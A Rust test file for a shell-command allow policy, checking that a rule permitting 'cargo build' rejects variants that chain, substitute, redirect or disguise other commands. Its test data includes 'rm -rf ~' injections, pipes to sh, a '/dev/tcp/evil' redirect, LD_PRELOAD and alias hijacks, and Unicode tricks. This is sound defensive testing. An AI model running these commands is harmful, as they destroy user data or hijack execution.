//! What an allow of `cargo build` must not pass.

use paddock_policy::Judged;

use super::all;

const RULES: &[&str] = &["cargo build", "echo *", "ls *"];

#[test]
fn commands_joined_to_it_do_not_pass() {
    let joined = [
        "cargo build && rm -rf ~",
        "cargo build&&rm -rf ~",
        "cargo build || rm -rf ~",
        "cargo build; rm -rf ~",
        "cargo build;rm -rf ~",
        "cargo build\nrm -rf ~",
        "cargo build\r\nrm -rf ~",
        "cargo build\rrm -rf ~",
        "cargo build | sh",
        "cargo build |& sh",
        "cargo build & rm -rf ~",
        "cargo build &",
        "cargo build & cargo build",
        "rm -rf ~; cargo build",
        "rm -rf ~ && cargo build",
        "rm -rf ~\ncargo build",
        "true && cargo build",
        "sh | cargo build",
        "curl x | cargo build",
        "cargo build\n;rm x",
        "cargo build \\\n&& rm x",
        "cargo build ;; rm x",
        "cargo build; : ; rm x",
        "cargo build && cargo build && cargo build && rm x",
        "cargo build ||\nrm x",
        "cargo build |\nsh",
    ];
    all(RULES, Judged::Ask, &joined);
}

#[test]
fn substitutions_do_not_pass() {
    let substitutions = [
        "cargo build $(rm -rf ~)",
        "cargo build `rm -rf ~`",
        "cargo build \"$(rm -rf ~)\"",
        "cargo build \"`rm -rf ~`\"",
        "cargo $(echo build)",
        "cargo `echo build`",
        "$(echo cargo) build",
        "`echo cargo` build",
        "echo $(id)",
        "echo \"a $(id) b\"",
        "echo `id`",
        "echo \"\\\\$(id)\"",
        "echo ${x:-$(id)}",
        "echo ${x:=`id`}",
        "echo \"${x:-$(id)}\"",
        "echo $((1+$(id)))",
        "echo $((a[$(id)]))",
        "echo $[$(id)]",
        "cargo build <(rm -rf ~)",
        "cargo build >(rm -rf ~)",
        "echo <(id)",
        "ls >(id)",
        "echo $'a\\x27;id'",
        "echo $'a'",
        "echo $\"a\"",
        "echo ${x@P}",
        "echo ${!x}",
        "ls $(cat <<E\nid\nE\n)",
        "echo ${ id; }",
        "echo ${| id; }",
    ];
    all(RULES, Judged::Ask, &substitutions);
}

#[test]
fn what_only_the_shell_knows_does_not_pass() {
    let unknown = [
        "cargo $X",
        "$X build",
        "cargo ${X}",
        "cargo build $X",
        "cargo build \"$X\"",
        "cargo build \"$@\"",
        "cargo build $*",
        "echo $HOME",
        "echo ~",
        "echo ~root",
        "ls ~/x",
        "ls a=~",
        "ls a:~",
        "ls *",
        "ls *.rs",
        "ls a?b",
        "ls [a-z]",
        "ls {a,b}",
        "ls {1..3}",
        "echo {",
        "echo }",
        "ls !(x)",
        "ls @(a|b)",
        "ls +(a)",
        "echo !!",
        "echo !$",
        "echo \"!x\"",
        "=ls x",
        "ls =ls",
        "ls # -la",
        "cargo build # x",
        "#cargo build",
    ];
    all(RULES, Judged::Ask, &unknown);
}

#[test]
fn other_programs_that_run_it_do_not_pass() {
    let runners = [
        "bash -c 'cargo build'",
        "bash -c \"cargo build; rm x\"",
        "sh -c 'cargo build'",
        "/bin/sh -c 'cargo build'",
        "env cargo build",
        "env X=Y cargo build",
        "env -S 'cargo build'",
        "X=Y cargo build",
        "PATH=/tmp cargo build",
        "RUSTC_WRAPPER=/tmp/x cargo build",
        "LD_PRELOAD=/tmp/x.so cargo build",
        "A=1 B=2 cargo build",
        "A+=x cargo build",
        "a[0]=x cargo build",
        "X=$(id) cargo build",
        "'A'=1 cargo build",
        "A='x' cargo build",
        "eval cargo build",
        "eval 'cargo build'",
        "exec cargo build",
        "command cargo build",
        "builtin cargo build",
        "nohup cargo build",
        "nice cargo build",
        "time cargo build",
        "timeout 5 cargo build",
        "sudo cargo build",
        "doas cargo build",
        "xargs cargo build",
        "echo x | xargs cargo build",
        "find . -exec cargo build \\;",
        "watch cargo build",
        "stdbuf -o0 cargo build",
        "setsid cargo build",
        "ssh host cargo build",
        "script -c 'cargo build'",
        "busybox sh -c 'cargo build'",
        "source x",
        ". x",
        "./cargo build",
        "/tmp/cargo build",
        "../cargo build",
        "cargo-build",
        "Cargo build",
        "cargo build --release",
        "cargo build x",
        "cargo builds",
        "cargo bui ld",
        "cargo\\ build",
        "'cargo build'",
        "cargo '' build",
        "cargo build ''",
        "cargo",
        "build",
        "",
        " ",
        "\n",
        ";",
        "cargo +nightly build",
        "coproc cargo build",
    ];
    all(RULES, Judged::Ask, &runners);
}

#[test]
fn redirections_to_and_from_files_do_not_pass() {
    let redirections = [
        "cargo build > ~/.bashrc",
        "cargo build > x",
        "cargo build >x",
        "cargo build >> x",
        "cargo build 2> x",
        "cargo build 2>>x",
        "cargo build &> x",
        "cargo build &>> x",
        "cargo build >& x",
        "cargo build >&x",
        "cargo build >| x",
        "cargo build <> x",
        "cargo build < x",
        "cargo build 0<x",
        "cargo build {fd}>x",
        "cargo build >/dev/nullx",
        "cargo build >/dev/null/../x",
        "cargo build >/dev//null",
        "cargo build >'/dev/null'x",
        "cargo build >/dev/tcp/evil/80",
        "cargo build 2>&1x",
        "cargo build 2>&3",
        "cargo build 3>&1",
        "cargo build 2>&-",
        "cargo build >&-",
        "cargo build <&0",
        "cargo build <<E\nrm\nE",
        "cargo build <<'E'\nrm\nE",
        "cargo build <<-E\nrm\nE",
        "cargo build <<E\n$(rm)\nE",
        "cargo build <<< x",
        "cargo build <<< $(id)",
        "> x cargo build",
        "2>x cargo build",
        "> x",
        "cargo build; > x",
        "cargo build 2>&1 > x",
        "cargo build >$X",
        "cargo build > $(id)",
        "cargo build 12>/dev/null",
    ];
    all(RULES, Judged::Ask, &redirections);
}

#[test]
fn groups_loops_functions_and_aliases_do_not_pass() {
    let compound = [
        "(cargo build)",
        "( cargo build; rm x )",
        "{ cargo build; }",
        "{ cargo build; rm x; }",
        "if cargo build; then rm x; fi",
        "if true; then cargo build; fi",
        "while cargo build; do rm x; done",
        "until cargo build; do :; done",
        "for x in a; do cargo build; done",
        "for ((;;)); do cargo build; done",
        "case x in x) cargo build;; esac",
        "select x in a; do cargo build; done",
        "cargo() { rm -rf ~; }; cargo build",
        "cargo() { rm -rf ~; }\ncargo build",
        "function cargo { rm x; }; cargo build",
        "function cargo() { rm x; }\ncargo build",
        "alias cargo=rm; cargo build",
        "alias cargo='rm -rf ~'\ncargo build",
        "unalias cargo; cargo build",
        "hash -p /tmp/x cargo; cargo build",
        "enable -f /tmp/x.so cargo; cargo build",
        "export PATH=/tmp; cargo build",
        "declare -x PATH=/tmp; cargo build",
        "set -- x; cargo build",
        "shopt -s expand_aliases; cargo build",
        "trap 'rm x' EXIT; cargo build",
        "PATH=/tmp; cargo build",
        "IFS=o; cargo build",
        "[[ -f x ]] && cargo build",
        "[ -f x ] && cargo build",
        "((x)) && cargo build",
        "let x=1; cargo build",
        "! cargo build",
        "! rm x",
        "cargo build && (rm x)",
        "cargo build && { rm x; }",
        "cargo build; if true; then rm x; fi",
        "cargo build && ! rm x",
    ];
    all(RULES, Judged::Ask, &compound);
}

#[test]
fn what_is_hidden_or_broken_does_not_pass() {
    let hidden = [
        "cargo build\u{0}rm",
        "cargo build\u{b}rm",
        "cargo build\u{c}rm x",
        "cargo\u{a0}build",
        "cargo\u{2003}build",
        "cargo build\u{2028}rm x",
        "cargo build\u{200b}",
        "cargo build \u{202e}x",
        "cargo build\u{1b}[2K",
        "cargo build\u{85}rm x",
        "cargo build '",
        "cargo build \"",
        "cargo build \\",
        "cargo build (",
        "cargo build )",
        "cargo build {",
        "cargo build `",
        "cargo build $(",
        "cargo build &&",
        "cargo build ||",
        "cargo build |",
        "&& cargo build",
        "| cargo build",
        "; cargo build",
        "cargo build ; ; cargo build",
        "cargo build <",
        "cargo build >",
        "cargo build && \n",
        "cаrgo build",
    ];
    all(RULES, Judged::Ask, &hidden);
}

#[test]
fn a_line_that_is_endless_or_nests_endlessly_is_asked_and_harms_nobody() {
    let long = format!("cargo build {}", "x ".repeat(100_000));
    let brackets = format!("{}cargo build{}", "(".repeat(20_000), ")".repeat(20_000));
    let substitutions = format!("echo {}id{}", "$(".repeat(5000), ")".repeat(5000));
    let ticks = format!("echo {}", "`".repeat(9001));
    let ifs = "if true; then ".repeat(1000);
    let quotes = "echo '".repeat(2001);
    let braces = format!("echo {}", "{a,".repeat(5000));
    let params = format!("echo {}x{}", "${a:-".repeat(2000), "}".repeat(2000));
    let bangs = format!("{} cargo build", "! ".repeat(7000));
    for line in [
        long,
        brackets,
        substitutions,
        ticks,
        ifs,
        quotes,
        braces,
        params,
        bangs,
    ] {
        all(RULES, Judged::Ask, &[&line]);
    }
}

#[test]
fn what_nests_up_to_the_limit_is_read_in_no_time() {
    let begun = std::time::Instant::now();
    for depth in [4, 8, 12] {
        let brackets = format!("{}cargo build{}", "( ".repeat(depth), " )".repeat(depth));
        let substitutions = format!("echo {}id{}", "$(".repeat(depth), ")".repeat(depth));
        let params = format!("echo {}x{}", "${a:-".repeat(depth), "}".repeat(depth));
        all(RULES, Judged::Ask, &[&brackets, &substitutions, &params]);
    }
    assert!(begun.elapsed().as_secs() < 5, "{:?}", begun.elapsed());
}
